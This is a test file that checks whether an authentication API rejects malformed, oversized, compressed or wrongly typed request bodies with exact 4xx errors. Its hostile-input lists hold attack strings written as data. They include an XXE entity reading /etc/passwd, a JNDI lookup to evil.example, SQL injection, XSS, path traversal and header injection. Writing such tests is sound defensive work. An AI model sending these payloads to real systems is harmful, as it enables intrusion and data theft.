// Bodies that no client should send: each gets its exact 4xx, and the worker goes on serving.

import { randomBytes } from "node:crypto";
import { deflateSync, gzipSync } from "node:zlib";
import { describe, expect, test } from "vitest";
import { DEMO, DEMO_WEB, type Answer, flat } from "../../support/api";
import { invalid, useBadInput } from "../../support/bad_input";

const { our, pair } = useBadInput();

/** The largest body that is taken. */
const MOST = 65_536;

interface Operation {
  required: Record<string, unknown>;
  optional: Record<string, unknown>;
  /** What a body that has nothing in it meets further on. */
  onNull: object;
}

/** The operations that take a body, with a body that is right. */
const OPERATIONS: Record<string, Operation> = {
  "POST /auth/login": {
    required: { ...DEMO_WEB, ...DEMO },
    optional: { code_challenge: "x".repeat(43), code_challenge_method: "S256" },
    onNull: flat(401, "Unauthorized"),
  },
  "POST /auth/login-token": { required: { ...DEMO_WEB, ...DEMO }, optional: {}, onNull: flat(401, "Unauthorized") },
  "POST /auth/token": {
    required: { code: "code", clientId: "demo-web" },
    optional: { code_verifier: "x".repeat(43) },
    onNull: flat(401, "Client Invalid"),
  },
  "POST /auth/token-refresh": { required: { refreshToken: "x" }, optional: {}, onNull: flat(401, "Token Expired") },
  "PATCH /auth/change-password": {
    required: {},
    optional: { refreshToken: "x", username: "demo", password: "x", oldPassword: "x" },
    onNull: flat(422, "TokenMissing"),
  },
  "POST /logout": { required: {}, optional: { refreshToken: "x" }, onNull: flat(422, "TokenMissing") },
};

/** The detail of a 422 for each thing that can be wrong with a body. */
const missing = (property: string) => ({
  path: "",
  code: "required",
  message: `must have required property '${property}'`,
  info: { missingProperty: property },
});

const unknown = (property: string) => ({
  path: "",
  code: "additionalProperties",
  message: "must NOT have additional properties",
  info: { additionalProperty: property },
});

const notA = (type: string, property = "") => ({
  path: property && `/${property}`,
  code: "type",
  message: `must be ${type}`,
  info: { type },
});

const syntax = { error: { statusCode: 400, name: "SyntaxError", message: expect.any(String) } };
const tooLarge = { error: { statusCode: 413, name: "PayloadTooLargeError", message: "request entity too large" } };

const unsupported = (got: string) => ({
  error: {
    statusCode: 415,
    name: "UnsupportedMediaTypeError",
    message: `Content-type ${got} does not match [application/json].`,
    code: "UNSUPPORTED_MEDIA_TYPE",
  },
});

describe.each(Object.entries(OPERATIONS))("%s", (operation, { required, optional, onNull }) => {
  const [method, path] = operation.split(" ") as [string, string];
  const right = { ...required, ...optional };
  const properties = [...Object.keys(required), ...Object.keys(optional)];
  const bearer = () => our.bearer(pair().accessToken);
  const send = (body: unknown, headers: Record<string, string> = {}) =>
    our.send(method, path, { body, headers: { ...bearer(), ...headers } });
  const raw = (body: string | Uint8Array | ReadableStream, contentType = "application/json") => send(body, { "content-type": contentType });

  /** The exact answer, given before anything was read. */
  function expectAnswer(answer: Answer, expected: { error: { statusCode: number } }) {
    expect(answer.body).toEqual(expected);
    expect(answer.status).toBe(expected.error.statusCode);
    expect(answer.headers.get("content-type")).toBe("application/json; charset=utf-8");
    expect(answer.waits).toBe(0);
  }

  const nothing = Object.keys(required).length > 0 ? invalid(...Object.keys(required).map(missing)) : undefined;

  test("without a body, or with an empty one, is like {}", async () => {
    const answers = [
      await send({}),
      await send(undefined),
      await send(undefined, { "content-type": "application/json" }),
      await raw(""),
      await raw(" \n\t"),
      await raw("{}", "application/json; charset=utf-8"),
      await raw("{}", "Application/JSON"),
      await send(new TextEncoder().encode("{}")),
    ];
    for (const answer of answers) {
      if (nothing) expectAnswer(answer, nothing);
      else expect(answer.body).toEqual(flat(422, "TokenMissing"));
    }
  });

  test("with null has nothing in it, and is refused further on", async () => {
    expect((await send(null)).body).toEqual(onNull);
  });

  test.each(["[]", "[{}]", "1", "0.5", "true", '"text"', `[${JSON.stringify(right)}]`])("with %s is no object", async (body) => {
    expectAnswer(await raw(body), invalid(notA("object")));
  });

  test("names every property that is missing, in order", async () => {
    for (const name of Object.keys(required)) {
      const { [name]: _, ...rest } = right;
      expectAnswer(await send(rest), invalid(missing(name)));
    }
  });

  test.each(properties)("wants text in %s", async (name) => {
    for (const value of [null, 0, 1, 1.5, -1, 1e300, true, false, [], ["x"], {}, { $ne: "" }]) {
      expectAnswer(await send({ ...right, [name]: value }), invalid(notA("string", name)));
    }
  });

  test("refuses properties it does not know", async () => {
    for (const name of ["foo", "__proto__", "constructor", "", "client_Id", "Password", "refresh_token", "a".repeat(100), "é", "${7*7}"]) {
      expectAnswer(
        await raw(JSON.stringify(right).replace(/\}$/, `${properties.length > 0 ? "," : ""}${JSON.stringify(name)}:1}`)),
        invalid(unknown(name)),
      );
    }
  });

  test("is rejected with every detail at once: what is missing, what is unknown, what has the wrong type", async () => {
    const [first, ...others] = properties as [string, ...string[]];
    const isRequired = first in required;
    const body: Record<string, unknown> = { zz: 1, ...Object.fromEntries(others.map((name) => [name, 7]).reverse()), aa: null };
    const expected = invalid(
      ...(isRequired ? [missing(first)] : []),
      unknown("zz"),
      unknown("aa"),
      ...others.map((name) => notA("string", name)),
    );
    expectAnswer(await send(body), expected);
  });

  test("takes the last of two properties of one name, as JSON.parse does", async () => {
    const name = properties[0]!;
    const start = JSON.stringify(right).replace(/\}$/, "");
    expectAnswer(await raw(`${start},"${name}":1}`), invalid(notA("string", name)));
    expectAnswer(await raw(`{"${name}":1,${start.slice(1)},"foo":1}`), invalid(unknown("foo")));
  });

  const good = JSON.stringify(right);

  test("may begin with a byte order mark", async () => {
    expectAnswer(await raw(`\ufeff${good.replace(/\}$/, ',"foo":1}')}`), invalid(unknown("foo")));
  });

  const deep = (open: string, close: string) => `${open.repeat(10_000)}${close.repeat(10_000)}`;
  const broken: Record<string, string | Uint8Array> = {
    "an open brace": "{",
    "half of a good one": good.slice(0, -2),
    "something after its end": `${good}x`,
    "two in a row": `${good}${good}`,
    "a comma too many": good.replace(/\}$/, ",}"),
    "single quotes": "{'a':1}",
    "no quotes": "{a:1}",
    "a form's text": "client_id=demo-web&client_secret=x",
    NaN: '{"username":NaN}',
    undefined: "undefined",
    "a comment": "/* */{}",
    XML: '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>',
    "a control character in text": '{"username":"\u0001"}',
    "a lone high surrogate": '{"username":"\\ud800"}',
    "a lone low surrogate": '{"username":"\\udc00x"}',
    "surrogates the wrong way round": '{"username":"\\udc00\\ud800"}',
    "a bad escape": '{"username":"\\x41"}',
    "UTF-8 that is broken": new Uint8Array([0x7b, 0x22, 0x61, 0x22, 0x3a, 0x22, 0xff, 0xfe, 0x22, 0x7d]),
    "UTF-8 that ends too soon": new Uint8Array([0x7b, 0x22, 0xc3]),
    "UTF-8 that is overlong": new Uint8Array([0x7b, 0x22, 0xc0, 0xaf, 0x22, 0x3a, 0x31, 0x7d]),
    "a surrogate in UTF-8": new Uint8Array([0x7b, 0x22, 0xed, 0xa0, 0x80, 0x22, 0x3a, 0x31, 0x7d]),
    "UTF-16": new Uint8Array(Buffer.from("{}", "utf16le")),
    "NUL bytes": new Uint8Array(64),
    gzip: new Uint8Array([0x1f, 0x8b, 8, 0, 0, 0, 0, 0]),
    "10,000 open brackets": "[".repeat(10_000),
    "10,000 arrays in each other": deep("[", "]"),
    "10,000 objects in each other": `${'{"a":'.repeat(10_000)}1${"}".repeat(10_000)}`,
    "10,000 arrays in a property": `{"username":${deep("[", "]")}}`,
    "a number that is no number": '{"username":1e99999}',
  };

  test.each(Object.entries(broken))("with %s is broken JSON", async (_, body) => {
    expectAnswer(await raw(body), syntax);
  });

  test.each([
    "text/plain",
    "application/x-www-form-urlencoded",
    "multipart/form-data; boundary=x",
    "application/xml",
    "text/json",
    "application/json5",
    "application/ld+json",
    "x",
    "application/json, text/plain",
  ])("of type %s is refused, with any content", async (type) => {
    for (const body of [good, "{", "x".repeat(MOST + 1)]) expectAnswer(await raw(body, type), unsupported(type));
  });

  describe("of 64 KiB", () => {
    const filled = (size: number) => good.replace(/\}$/, `,"foo":"${"x".repeat(size - Buffer.byteLength(good) - 9)}"}`);

    test("is read", async () => {
      const body = filled(MOST);
      expect(Buffer.byteLength(body)).toBe(MOST);
      expectAnswer(await raw(body), invalid(unknown("foo")));
    });

    test("and one byte is not, with or without a declared length", async () => {
      expectAnswer(await raw(filled(MOST + 1)), tooLarge);
      expectAnswer(await raw(" ".repeat(MOST + 1)), tooLarge);
      expectAnswer(await raw(streamed(filled(MOST + 1))), tooLarge);
      expectAnswer(await raw("x".repeat(8_000_000)), tooLarge);
    });

    test("is read in pieces too", async () => {
      expectAnswer(await raw(streamed(filled(MOST), 10_000)), invalid(unknown("foo")));
      expectAnswer(await raw(streamed("{", 1)), syntax);
      const answer = await raw(streamed("{}", 1));
      expect(answer.status).toBe(422);
    });
  });

  describe("of more than anything means", () => {
    const padded = (values: number) =>
      good.replace(/\}$/, `${properties.length > 0 ? "," : ""}"foo":[${Array(values - properties.length - 2).fill(0)}]}`);

    test("has a thousand values, and not one more", async () => {
      expectAnswer(await raw(padded(1_000)), invalid(unknown("foo")));
      expectAnswer(await raw(padded(1_001)), syntax);
      expectAnswer(await raw(`[${"{},".repeat(20_000)}{}]`), syntax);
    });

    test("has 32 levels, and not one more", async () => {
      const nested = (depth: number) => good.replace(/\}$/, `,"foo":${"[".repeat(depth - 1)}${"]".repeat(depth - 1)}}`);
      expectAnswer(await raw(nested(32)), invalid(unknown("foo")));
      expectAnswer(await raw(nested(33)), syntax);
    });

    test("is rejected with twenty details, and no more", async () => {
      const answer = await raw(JSON.stringify(Object.fromEntries(Array.from({ length: 999 }, (_, n) => [`p${n}`, 0]))));
      expect(answer.status).toBe(422);
      expect(answer.body.error.details).toHaveLength(20);
    });
  });

  test("has its unknown properties named in an answer that is not much larger", async () => {
    const long = await our.post("/auth/login", { ...DEMO_WEB, ...DEMO, ["a".repeat(10_000)]: 1 });
    expect(long.body.error.details).toEqual([expect.objectContaining({ info: { additionalProperty: `${"a".repeat(100)}…` } })]);
    const headers = { "content-type": "application/x-www-form-urlencoded" };
    for (const name of ["%01".repeat(20_000), "%22".repeat(20_000), "%F0%9F%94%91".repeat(5_000)]) {
      const answer = await our.send("POST", "/auth/google", { body: `${name}=a`, headers });
      expect(answer.status).toBe(422);
      expect(answer.text.length).toBeLessThan(2_000);
    }
    const names = Object.fromEntries(Array.from({ length: 25 }, (_, n) => [`${n}`.padEnd(2_000, "\u0001"), 1]));
    expect((await our.post("/auth/login", names)).text.length).toBeLessThan(20_000);
  });

  test("with U+0000 anywhere is refused by the name of the property", async () => {
    const nul = (path: string) => invalid({ path, code: "pattern", message: "must NOT contain U+0000", info: {} });
    for (const name of properties) {
      for (const text of ["\u0000", "demo\u0000", "\u0000demo"]) expectAnswer(await send({ ...right, [name]: text }), nul(`/${name}`));
    }
    expectAnswer(await send({ ...right, foo: { bar: ["a\u0000"] } }), nul("/foo/bar/0"));
    expectAnswer(await send({ ...right, "a\u0000": 1 }), nul(""));
  });

  describe("that is compressed", () => {
    const coded = (body: Uint8Array, coding: string) => send(body, { "content-type": "application/json", "content-encoding": coding });
    const codings = {
      gzip: gzipSync,
      "x-gzip": gzipSync,
      GZIP: gzipSync,
      deflate: deflateSync,
      identity: (body: string) => Buffer.from(body),
    };
    const wrong = good.replace(/\}$/, ',"foo":1}');

    test.each(Object.entries(codings))("with %s is what it was before", async (coding, compress) => {
      expectAnswer(await coded(compress(wrong), coding), invalid(unknown("foo")));
      expectAnswer(await coded(compress(" ".repeat(MOST - wrong.length) + wrong), coding), invalid(unknown("foo")));
    });

    test("and bursts is too large, for any content", async () => {
      expectAnswer(await coded(gzipSync(" ".repeat(MOST + 1)), "gzip"), tooLarge);
      expectAnswer(await coded(gzipSync(" ".repeat(50_000_000)), "gzip"), tooLarge);
      expectAnswer(await coded(deflateSync(" ".repeat(50_000_000)), "deflate"), tooLarge);
      expectAnswer(await coded(randomBytes(MOST + 1), "gzip"), tooLarge);
    });

    test("and broken is broken", async () => {
      const whole = gzipSync(wrong);
      for (const body of [Buffer.from(wrong), whole.subarray(0, -9), Buffer.concat([whole, Buffer.from("x")]), deflateSync(wrong)])
        expectAnswer(await coded(body, "gzip"), syntax);
      expectAnswer(await coded(gzipSync(wrong), "deflate"), syntax);
    });

    test.each(["br", "zstd", "compress", "gzip, gzip", "nonsense"])("with %s is refused, and what is read is told", async (coding) => {
      const answer = await coded(Buffer.from(good), coding);
      const error = { statusCode: 415, name: "UnsupportedMediaTypeError", message: `unsupported content encoding "${coding}"` };
      expectAnswer(answer, { error });
      expect(answer.headers.get("accept-encoding")).toBe("gzip, deflate");
    });
  });

  test.each(properties)("with hostile text in %s is refused as a wrong value is", async (name) => {
    for (const value of HOSTILE_TEXTS) {
      const answer = await send({ ...right, [name]: value });
      expect(answer.status, value.slice(0, 40)).toBeGreaterThanOrEqual(400);
      expect(answer.status, value.slice(0, 40)).toBeLessThan(500);
      expect(answer.body.error.statusCode).toBe(answer.status);
    }
  });
});

const HOSTILE_TEXTS = [
  "\u0000",
  "demo\u0000",
  "' or '1'='1",
  "'; drop table users; --",
  "%",
  "_",
  "*",
  "../../etc/passwd",
  "${jndi:ldap://evil.example/x}",
  "<script>alert(1)</script>",
  "\r\nSet-Cookie: a=b",
  "\u202egnirts",
  "\u{1f4a9}".repeat(1000),
  "e" + "\u0301".repeat(30_000),
  "x".repeat(60_000),
  // One character that compatibility normalisation makes eighteen of.
  "\ufdfa".repeat(20_000),
];

function streamed(text: string, size = 65_536): ReadableStream<Uint8Array> {
  const bytes = new TextEncoder().encode(text);
  let at = 0;
  return new ReadableStream({
    pull(controller) {
      if (at >= bytes.length) return controller.close();
      controller.enqueue(bytes.slice(at, at + size));
      at += size;
    },
  });
}
